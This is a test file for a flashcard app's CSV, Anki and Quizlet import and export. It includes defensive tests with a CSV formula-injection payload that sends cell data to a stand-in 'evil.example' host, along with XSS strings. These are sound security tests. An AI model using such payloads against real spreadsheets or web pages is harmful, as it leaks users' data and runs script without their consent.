import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { flatten, parseCsvDeck, stripHtml, toAnkiTsv, toCsv, toQuizletTsv } from './csv';
import { sampleDeck } from '../deck/fixtures/sample-deck';
import { DeckError } from '../deck/errors';

const now = new Date('2026-01-05T09:00:00Z');
const problems = (f: () => unknown): string[] => {
	try {
		f();
	} catch (e) {
		if (e instanceof DeckError) return e.problems;
		throw e;
	}
	throw new Error('expected a DeckError');
};

describe('export', () => {
	it('puts the choices on the front and the answer on the back', () => {
		expect(flatten(sampleDeck().cards[0])).toEqual({
			front: 'Who said: "This bridge joins our two halves"? (Ana Ruiz / Tom Berg / Lea Voss / Omar Hale)',
			back: 'Ana Ruiz',
			tags: ''
		});
	});

	it('writes RFC 4180 CSV with a BOM and a header row', () => {
		const deck = sampleDeck();
		deck.cards[2].tags = ['local news', 'bridges'];
		const csv = toCsv(deck);
		expect(csv.startsWith('\ufefffront,back,tags\r\n')).toBe(true);
		expect(csv).toContain('"Who said: ""This bridge joins our two halves""? (Ana Ruiz / Tom Berg / Lea Voss / Omar Hale)",Ana Ruiz,');
		expect(csv).toContain('local_news bridges');
	});

	it('writes Anki headers with a guid column, and Quizlet term<TAB>definition lines', () => {
		const anki = toAnkiTsv(sampleDeck());
		expect(anki.split('\n').slice(0, 7)).toContain('#guid column:4');
		expect(anki).toContain('\tAna Ruiz\t\twho-said-1\n');
		const quizlet = toQuizletTsv(sampleDeck()).trimEnd().split('\n');
		expect(quizlet).toHaveLength(3);
		expect(quizlet[2]).toBe('Ana Ruiz is the mayor of which town?\tLakeside');
	});

	it('round-trips: our CSV, Anki TSV and Quizlet TSV import back as decks with the same fronts and backs', () => {
		const deck = sampleDeck();
		for (const [text, name] of [
			[toCsv(deck), 'lakeside.csv'],
			[toAnkiTsv(deck), 'lakeside.txt'],
			[toQuizletTsv(deck), 'lakeside.tsv']
		]) {
			const back = parseCsvDeck(text, name, { now });
			expect(back.cards.map((c) => c.answer)).toEqual(['Ana Ruiz', 'March 2023', 'Lakeside']);
			expect(back.cards[0].type).toBe('flip');
		}
		// Anki's guid column keeps our card ids, so a re-import updates instead of duplicating.
		expect(parseCsvDeck(toAnkiTsv(deck), 'x.txt', { now }).cards.map((c) => c.id)).toEqual(['who-said-1', 'when-1', 'where-1']);
		expect(parseCsvDeck(toAnkiTsv(deck), 'x.txt', { now }).title).toBe('Lakeside bridge opens');
	});
});

describe('import', () => {
	it('reads a Quizlet export (no header) and keeps each row as the source sentence', () => {
		const deck = parseCsvDeck('Paris\tcapital of France\nBerlin\tcapital of Germany\n', 'capitals.txt', { now });
		expect(deck.title).toBe('capitals');
		expect(deck.cards).toHaveLength(2);
		expect(deck.cards[1].source.sentence).toBe('Berlin — capital of Germany');
		expect(deck.articles[0].text.slice(deck.cards[1].source.start, deck.cards[1].source.end)).toBe('Berlin — capital of Germany');
	});

	it('an Anki file has no header row: a first card reading "front" / "back" is kept (found by fuzzing)', () => {
		const deck = sampleDeck();
		deck.cards[0] = { ...deck.cards[0], type: 'flip', prompt: 'front', answer: 'back', choices: undefined };
		expect(parseCsvDeck(toAnkiTsv(deck), 'x.txt', { now }).cards.map((c) => c.prompt)).toEqual(['front', deck.cards[1].prompt + ' (' + deck.cards[1].choices!.join(' / ') + ')', deck.cards[2].prompt]);
		expect(parseCsvDeck('front,back\nLakeside,a town\n', 'plain.csv', { now }).cards.map((c) => c.prompt)).toEqual(['Lakeside']);
	});

	it('reads an Anki html export: tags stripped, entities decoded, tags column', () => {
		const text = '#separator:tab\n#html:true\n#tags column:3\nOne<br>line\t<b>bold</b> &amp; more\tgeo europe\n';
		const deck = parseCsvDeck(text, 'anki.txt', { now });
		expect(deck.cards[0]).toMatchObject({ prompt: 'One line', answer: 'bold & more', tags: ['geo', 'europe'] });
	});

	it('keeps HTML as plain text when the file does not say html:true', () => {
		const deck = parseCsvDeck('front,back\n<script>alert(1)</script>,<img src=x onerror=alert(1)>\n', 'x.csv', { now });
		expect(deck.cards[0].prompt).toBe('<script>alert(1)</script>');
	});

	it('skips duplicate rows and handles quoted fields with commas and newlines', () => {
		const deck = parseCsvDeck('a,b\na,b\n"c, d","e\nf"\n', 'x.csv', { now });
		expect(deck.cards.map((c) => [c.prompt, c.answer])).toEqual([
			['a', 'b'],
			['c, d', 'e f']
		]);
	});

	it('names the line of each bad row', () => {
		expect(problems(() => parseCsvDeck('front\tback\nok\tfine\n\tno front\nno back\t\n', 'x.tsv', { now }))).toEqual([
			'line 3: the front (column 1) is empty',
			'line 4: the back (column 2) is empty'
		]);
		expect(problems(() => parseCsvDeck('just one column\nanother\n', 'x.txt', { now }))[0]).toMatch(/^line 1: expected 2 columns/);
	});

	it('refuses empty, truncated, HTML and binary files', () => {
		expect(problems(() => parseCsvDeck('', 'e.csv', { now }))).toEqual(['file is empty']);
		expect(problems(() => parseCsvDeck('#separator:tab\n', 'e.txt', { now }))).toEqual(['no rows with cards (only headers or blank lines)']);
		expect(problems(() => parseCsvDeck('a,b\n"c,d', 't.csv', { now }))[0]).toBe('line 2: a quoted field never ends (is the file cut short?)');
		expect(problems(() => parseCsvDeck('<!DOCTYPE html><html>', 'p.csv', { now }))[0]).toMatch(/web page/);
		expect(problems(() => parseCsvDeck('a,b\u0000\u0001', 'b.csv', { now }))[0]).toMatch(/binary/);
	});

	it('stripHtml removes scripts and tags', () => {
		expect(stripHtml('<script>x()</script>Hi<br/>there')).toBe('Hi there');
	});

	it('agrees with papaparse on what it wrote', () => {
		const parsed = Papa.parse<string[]>(toCsv(sampleDeck()).slice(1), { skipEmptyLines: true });
		expect(parsed.data[0]).toEqual(['front', 'back', 'tags']);
		expect(parsed.data).toHaveLength(4);
	});
});

describe('formula injection (OWASP CSV injection)', () => {
	const evil = '=HYPERLINK("https://evil.example/?x="&A3,"click")';
	const hostile = () => {
		const deck = sampleDeck();
		const c = deck.cards[2];
		c.prompt = evil;
		c.answer = '+1+2';
		c.tags = ['@SUM(A1)'];
		return deck;
	};

	it('prefixes cells starting with = + - @ tab or CR with a quote in CSV, Anki and Quizlet exports', () => {
		const csv = Papa.parse<string[]>(toCsv(hostile()).slice(1)).data;
		expect(csv[3]).toEqual([`'${evil}`, "'+1+2", "'@SUM(A1)"]);
		const anki = Papa.parse<string[]>(toAnkiTsv(hostile()).split('\n').slice(7).join('\n'), { delimiter: '\t' }).data;
		expect(anki[2]).toEqual([`'${evil}`, "'+1+2", "'@SUM(A1)", 'where-1']);
		expect(toQuizletTsv(hostile()).trimEnd().split('\n')[2]).toBe(`'${evil}\t'+1+2`);
	});

	it('leaves other cells as they are, and reads its own quoted cells back unchanged', () => {
		const anki = toAnkiTsv(hostile());
		expect(anki).toContain('\tAna Ruiz\t\twho-said-1\n');
		const back = parseCsvDeck(toCsv(hostile()), 'x.csv', { now });
		expect(back.cards[2].prompt).toBe(evil);
		expect(back.cards[2].answer).toBe('+1+2');
		expect(back.cards[2].tags).toEqual(['@SUM(A1)']);
	});
});

describe('Anki GUIDs', () => {
	const anki = (rows: string[]) => ['#separator:tab', '#guid column:3', ...rows].join('\n') + '\n';

	it('names a row that repeats an earlier row\'s GUID for a different card', () => {
		expect(problems(() => parseCsvDeck(anki(['Capital of France\tParis\tg1', 'Capital of Spain\tMadrid\tg2', 'Capital of Italy\tRome\tg1']), 'x.txt', { now }))).toEqual([
			'line 5: GUID "g1" is already used on line 3 by a different card'
		]);
	});

	it('imports the same note twice once', () => {
		const deck = parseCsvDeck(anki(['Capital of France\tParis\tg1', 'Capital of France\tParis\tg1']), 'x.txt', { now });
		expect(deck.cards.map((c) => c.id)).toEqual(['g1']);
	});
});

describe('Anki export of a card starting with "#"', () => {
	it('reads back as a card, not as a header line', () => {
		const deck = parseCsvDeck('front\tback\n#separator:tab\tthe answer\nWho said it?\tAna Ruiz\n', 'hash.tsv', { now: new Date('2025-01-01T00:00:00.000Z') });
		expect(deck.cards.map((c) => c.prompt)).toContain('#separator:tab');
		const again = parseCsvDeck(toAnkiTsv(deck), 'again.txt', { now: new Date('2025-01-01T00:00:00.000Z') });
		expect(again.cards.map((c) => c.prompt)).toEqual(deck.cards.map((c) => c.prompt));
	});
});

describe('control characters in an imported cell', () => {
	it('are removed before spaces are tidied, so the card reads the same after a round trip', () => {
		const now = new Date('2025-01-01T00:00:00.000Z');
		const deck = parseCsvDeck('front\tback\nThe bridge joins \u0001 two halves\tAna Ruiz\nWho is the mayor?\tAna Ruiz\n', 'ctrl.tsv', { now });
		expect(deck.cards[0].prompt).toBe('The bridge joins two halves');
		expect(parseCsvDeck(toAnkiTsv(deck), 'again.txt', { now }).cards[0].prompt).toBe(deck.cards[0].prompt);
	});
});
